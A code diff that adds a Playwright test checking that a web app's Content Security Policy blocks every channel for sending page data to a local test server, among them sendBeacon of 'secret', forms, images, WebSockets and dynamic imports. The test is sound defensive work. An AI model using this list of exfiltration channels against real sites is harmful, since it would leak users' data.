@@ -11,11 +11,19 @@ async function stranger() {
     asked += 1;
     response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('leaked');
   });
+  server.on('upgrade', (_, socket) => {
+    asked += 1;
+    socket.destroy();
+  });
   await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
   return {
     url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`,
     asked: () => asked,
-    [Symbol.asyncDispose]: () => new Promise<void>((done) => server.close(() => done())),
+    [Symbol.asyncDispose]: () =>
+      new Promise<void>((done) => {
+        server.close(() => done());
+        server.closeAllConnections(); // one may be open over which nothing was asked
+      }),
   };
 }
 
@@ -112,4 +120,75 @@ test('the policy stops what would leave, from the page and from its worker', asy
   await page.evaluate((address) => navigator.sendBeacon(address, 'secret'), other.url);
   await ready(page);
   expect(other.asked(), 'nothing has arrived').toBe(1);
+});
+
+/** What the ways out are refused by. */
+const REFUSED_BY = [
+  'connect-src',
+  'default-src',
+  'font-src',
+  'form-action',
+  'frame-src',
+  'img-src',
+].concat(['media-src', 'require-trusted-types-for', 'script-src-elem', 'style-src-elem']);
+
+/** Tries every way to reach a server from a page but to go there; resolves once each kind has been refused. */
+function tryEveryWayOut(page: Page, url: string): Promise<readonly string[]> {
+  return page.evaluate(
+    async ([address, expected]) => {
+      const refused = new Set<string>();
+      const report = ({ effectiveDirective }: SecurityPolicyViolationEvent) =>
+        void refused.add(effectiveDirective);
+      document.addEventListener('securitypolicyviolation', report);
+      const put = (tag: string, attributes: Readonly<Record<string, string>>) => {
+        const element = document.createElement(tag);
+        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
+        document.body.append(element);
+        return element;
+      };
+      const ways: readonly (() => unknown)[] = [
+        () => put('link', { rel: 'prefetch', href: address }),
+        () => put('link', { rel: 'preload', as: 'fetch', href: address }),
+        () => put('link', { rel: 'modulepreload', href: address }),
+        () => put('link', { rel: 'stylesheet', href: address }),
+        () => put('img', { src: address }),
+        () => put('video', { src: address }),
+        () => put('iframe', { src: address }),
+        () => put('object', { data: address }),
+        () => (put('form', { action: address, method: 'post' }) as HTMLFormElement).submit(),
+        () => put('a', { href: '#/you', ping: address }).click(),
+        () => navigator.sendBeacon(address, 'secret'),
+        () => new WebSocket(address.replace('http', 'ws')),
+        () => new EventSource(address),
+        () => new FontFace('leak', `url(${address})`).load().catch(() => {}),
+        () => import(address).catch(() => {}),
+      ];
+      for (const way of ways) {
+        try {
+          way();
+        } catch (error) {
+          if ((error as Error).name !== 'TypeError') throw error; // what an untrusted address ends in, beside its report
+        }
+      }
+      while (expected.some((directive) => !refused.has(directive))) {
+        await new Promise((done) => setTimeout(done, 10));
+      }
+      return [...refused];
+    },
+    [url, REFUSED_BY] as const,
+  );
+}
+
+test('the policy leaves no way out but to leave the page', async ({ page, watch, isMobile }) => {
+  test.skip(isMobile, 'the policy is the same on every screen');
+  await using other = await stranger();
+  watch.allowOrigin(new URL(other.url).origin); // attempts are seen, and must not arrive
+  watch.expectProblem(/violates the following Content Security Policy|requires 'TrustedScriptURL'/);
+
+  await page.goto('#/you');
+  await ready(page);
+  const refused = await tryEveryWayOut(page, other.url);
+  expect(refused.toSorted()).toEqual(REFUSED_BY);
+  await ready(page);
+  expect(other.asked(), 'nothing has arrived').toBe(0);
 });
